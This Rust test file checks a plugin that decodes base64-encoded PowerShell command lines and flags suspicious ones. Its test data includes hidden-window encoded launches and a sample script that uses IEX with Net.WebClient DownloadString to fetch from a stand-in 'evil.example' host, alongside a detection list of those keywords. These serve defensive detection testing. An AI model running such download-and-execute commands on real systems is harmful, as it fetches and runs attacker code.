//! The plugin in `examples/plugins/decode-powershell`.
#![expect(
    clippy::disallowed_methods,
    reason = "files of the repository are read"
)]

use std::path::{Path, PathBuf};
use std::sync::{Arc, LazyLock};

use actions_contract::{Action, Call, Effect, Outcome};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use engine_model::Digest;
use engine_plugin::author::{Project, build};
use engine_plugin::{Host, HostConfig, Manifest, PluginConfig};
use proptest::prelude::*;
use serde_json::{Value, json};
use tokio::runtime::Runtime;

use crate::support::{call, no_wire};

fn folder() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples/plugins/decode-powershell")
}

/// The action of a plugin file, and the runtime to call it in.
struct Decoder(Runtime, Arc<dyn Action>);

impl Decoder {
    fn of(file: &[u8]) -> Self {
        let runtime = Runtime::new().unwrap();
        let host = Host::new(HostConfig::default()).unwrap();
        let loaded = runtime.block_on(host.load(file, &PluginConfig::of("ps-decode.wasm")));
        let [action] = loaded.unwrap().actions.try_into().ok().unwrap();
        Self(runtime, action)
    }

    fn outcome(&self, command_line: &str) -> Outcome {
        let args = json!({ "command_line": command_line });
        let call = Call {
            args,
            ..call(&*self.1)
        };
        self.0.block_on(self.1.call(&call, &no_wire()))
    }

    /// The output, which the host has checked against its schema.
    fn output(&self, command_line: &str) -> Value {
        match self.outcome(command_line) {
            Outcome::Done { output } => output,
            other => panic!("{command_line:?}: {other:?}"),
        }
    }
}

static SHIPPED: LazyLock<Decoder> =
    LazyLock::new(|| Decoder::of(&std::fs::read(folder().join("ps-decode.wasm")).unwrap()));

fn encoded(script: &str) -> String {
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    STANDARD.encode(bytes)
}

/// Command lines and what is decoded from them.
fn cases() -> Vec<(String, Option<&'static str>)> {
    let hello = encoded("Write-Host 'hällo 🙂'");
    let found = Some("Write-Host 'hällo 🙂'");
    let cut = |n: usize| hello[..n].to_owned();
    vec![
        (format!("powershell.exe -EncodedCommand {hello}"), found),
        (format!("powershell -nop -w hidden -e {hello}"), found),
        (format!("powershell -eNc\t\"{hello}\" -x"), found),
        (format!("pwsh /enc '{hello}'"), found),
        (format!("powershell \u{2013}ec {hello}"), found),
        (format!("powershell \u{2015}encod {hello}"), found),
        (
            format!("\"C:\\Program Files\\p w.exe\" -enc {hello}"),
            found,
        ),
        // The first value is no base64; the search goes on.
        (format!("powershell -e ./x!y -enc {hello}"), found),
        // A log cut the line off: what is there is read.
        (format!("powershell -enc {}", cut(16)), Some("Write-")),
        (format!("powershell -enc {}", cut(17)), Some("Write-")),
        (
            format!("powershell -enc {}", hello.trim_end_matches('=')),
            found,
        ),
        (format!("powershell -ExecutionPolicy {hello}"), None),
        (format!("powershell -encodedcommands {hello}"), None),
        (format!("powershell - {hello}"), None),
        (format!("powershell -enc={hello}"), None),
        ("powershell -enc ab=cd".to_owned(), None),
        ("powershell -enc".to_owned(), None),
        ("powershell -enc \"".to_owned(), None),
        ("powershell -enc A".to_owned(), None),
        ("Get-Process".to_owned(), None),
        (String::new(), None),
    ]
}

fn check_cases(decoder: &Decoder) {
    for (line, expected) in cases() {
        let output = decoder.output(&line);
        assert_eq!(output["found"], expected.is_some(), "{line}");
        assert_eq!(output["decoded"], expected.unwrap_or_default(), "{line}");
    }
}

#[test]
fn encoded_commands_are_found_in_every_spelling() {
    check_cases(&SHIPPED);
}

#[test]
fn indicators_and_signs_come_from_the_script() {
    let script = "$c = New-Object Net.WebClient; \
                  IEX ($c.DownloadString('http://evil.example/a?b=1')); \
                  iwr \"HTTPS://cdn.example/x.ps1\"; \
                  $y='http://evil.example/a?b=1'; $complexity = 1";
    let output = SHIPPED.output(&format!("powershell -enc {}", encoded(script)));
    let urls = json!(["http://evil.example/a?b=1", "HTTPS://cdn.example/x.ps1"]);
    assert_eq!(output["indicators"], urls);
    assert_eq!(
        output["signs"],
        json!(["downloadstring", "iex", "net.webclient"])
    );
    assert_eq!(output["suspicious"], true);
    let harmless = encoded("Get-Complexity | Out-Host");
    let output = SHIPPED.output(&format!("powershell -enc {harmless}"));
    assert_eq!(
        (&output["signs"], &output["suspicious"]),
        (&json!([]), &json!(false))
    );
}

#[test]
fn the_example_in_the_description_is_what_the_action_answers() {
    let info = SHIPPED.1.info();
    assert_eq!(info.id.as_str(), "ps-decode.decode");
    assert_eq!((&info.effect, info.target.as_ref()), (&Effect::Read, None));
    let line = info.example["command_line"].as_str().unwrap();
    assert_eq!(SHIPPED.output(line), info.example_output);
}

#[test]
fn the_longest_command_line_is_read_within_the_limits() {
    // The longest that Windows starts a process with, and the worst for the size of the output.
    let script = "\u{1}".repeat(12_000);
    let line = format!("powershell -enc {}", encoded(&script));
    assert!(line.len() <= 32_768);
    assert_eq!(SHIPPED.output(&line)["decoded"], script);
    let urls = "http://a ".repeat(1_300);
    let output = SHIPPED.output(&format!("powershell -enc {}", encoded(&urls)));
    assert_eq!(output["indicators"], json!(["http://a"]));
    let many: String = (0..900).map(|n| format!("http://{n} ")).collect();
    let output = SHIPPED.output(&format!("powershell -enc {}", encoded(&many)));
    assert_eq!(output["indicators"].as_array().unwrap().len(), 900);
    let refused = SHIPPED.outcome(&"x".repeat(32_769));
    assert_eq!(crate::support::failure(&refused).1, "AC0105");
}

#[test]
fn halves_of_characters_become_replacement_characters() {
    let units: [u16; 6] = [0xD83D, u16::from(b'a'), 0xDE42, 0xD83D, 0xD83D, 0xDE42];
    let bytes: Vec<u8> = units.into_iter().flat_map(u16::to_le_bytes).collect();
    let output = SHIPPED.output(&format!("powershell -enc {}", STANDARD.encode(bytes)));
    assert_eq!(output["decoded"], "\u{FFFD}a\u{FFFD}\u{FFFD}🙂");
}

proptest! {
    #![proptest_config(ProptestConfig {
        cases: 128,
        failure_persistence: None,
        ..Default::default()
    })]

    /// Quotes, backslashes, controls, dashes and base64 in any order: the host refuses an output
    /// that is not JSON or does not fit the schema.
    #[test]
    fn no_command_line_makes_the_output_invalid(
        line in concat!(
            r#"([ \t\r\n"'\\/{}:,\u{0}-\u{1f}\u{7f}\u{2028}é🙂–-]|"#,
            r"-e|-enc |[A-Za-z0-9+/=]{1,40}|\\u12){0,60}",
        )
    ) {
        SHIPPED.output(&line);
    }

    #[test]
    fn any_script_comes_out_as_it_went_in(script in "\\PC{1,200}|[\u{0}-\u{ff}]{1,200}") {
        let output = SHIPPED.output(&format!("powershell -enc {}", encoded(&script)));
        prop_assert_eq!(output["decoded"].as_str().unwrap(), script);
    }

    #[test]
    fn any_bytes_at_all_give_some_text(bytes in prop::collection::vec(any::<u8>(), 2..400)) {
        let output = SHIPPED.output(&format!("powershell -enc {}", STANDARD.encode(&bytes)));
        let units: Vec<u16> =
            bytes.chunks_exact(2).map(|pair| u16::from_le_bytes([pair[0], pair[1]])).collect();
        prop_assert_eq!(output["decoded"].as_str().unwrap(), String::from_utf16_lossy(&units));
    }
}

#[test]
fn the_shipped_file_was_built_from_the_source_beside_it() {
    let file = std::fs::read(folder().join("ps-decode.wasm")).unwrap();
    let built = Manifest::read(&file).unwrap();
    let source = std::fs::read(folder().join("decode.c")).unwrap();
    assert_eq!(
        built.source,
        Some(Digest::of(&source)),
        "run `quell plugin build` and copy build/ps-decode.wasm after a change of the source"
    );
    let written = Project::read(&folder()).unwrap().manifest;
    assert_eq!(
        Manifest {
            source: None,
            ..built
        },
        written
    );
}

#[test]
#[ignore = "needs zig: a C compiler for wasm32"]
fn real_c_compiler_builds_what_behaves_like_the_shipped_file() {
    let place = tempfile::tempdir().unwrap();
    for name in ["decode.c", "plugin.yaml"] {
        std::fs::copy(folder().join(name), place.path().join(name)).unwrap();
    }
    let built = build(&Project::read(place.path()).unwrap()).unwrap();
    let fresh = Decoder::of(&std::fs::read(built).unwrap());
    check_cases(&fresh);
}
